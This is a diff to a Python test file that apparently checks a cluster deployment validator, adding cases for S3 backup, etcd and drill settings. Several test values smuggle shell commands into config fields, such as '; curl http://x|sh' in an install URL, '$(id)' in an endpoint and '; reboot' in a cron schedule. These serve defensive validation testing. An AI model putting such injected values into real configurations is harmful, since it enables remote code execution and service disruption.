@@ -64,6 +64,21 @@ def _migration(volumes: list, county: str = "kisumu") -> dict:
     return {f"counties.{county}": {"migration": {"volumes": volumes}}, "migratedCredentials": {county: CREDENTIALS}}
 
 
+def _backup(**s3) -> dict:
+    """A valid backup section with `s3` keys replaced, and its keys as secrets."""
+    return {
+        "backup": {"s3": {"endpoint": "https://s3.moh.example.org:9000", "bucket": "cht-backups", **s3}},
+        "backupAccessKeyId": {"secure": "v1:k"},
+        "backupSecretAccessKey": {"secure": "v1:s"},
+    }
+
+
+def _backup_section(section: str, **values) -> dict:
+    case = _backup()
+    case["backup"][section] = values
+    return case
+
+
 CASES: list[Case] = [
     # --- shell, nginx, YAML and INI injections --------------------------------------------------------------
     Case("install-url-semicolon", "k3s.installScriptUrl", {"k3s.installScriptUrl": "https://get.k3s.io; curl http://x|sh"}),
@@ -128,6 +143,13 @@ CASES: list[Case] = [
         },
     ),
     Case("volume-handle-shell", "migration.volumes[0].volumeHandle", _migration([{"volumeHandle": "fcd-1; reboot"}])),
+    Case("s3-endpoint-newline", "backup.s3.endpoint", _backup(endpoint="https://s3.moh.example.org\n")),
+    Case("s3-endpoint-path", "backup.s3.endpoint", _backup(endpoint="https://s3.moh.example.org/$(id)")),
+    Case("s3-bucket-newline", "backup.s3.bucket", _backup(bucket="cht-backups\n")),
+    Case("s3-region-newline", "backup.s3.region", _backup(region="us-east-1\n")),
+    Case("etcd-folder-newline", "backup.etcd.folder", _backup_section("etcd", folder="cht/etcd\n")),
+    Case("etcd-cron-shell", "backup.etcd.schedule", _backup_section("etcd", schedule="0 1 * * *; reboot")),
+    Case("drill-image-newline", "backup.drill.image", _backup_section("drill", image="docker.io/alpine/k8s:1.35.0\n")),
     # --- types -----------------------------------------------------------------------------------------------------
     Case("couchdb-nodes-bool", "cht.couchdbNodes", {"cht.couchdbNodes": True}),
     Case("cpus-bool", "controlPlane.cpus", {"controlPlane.cpus": True}),
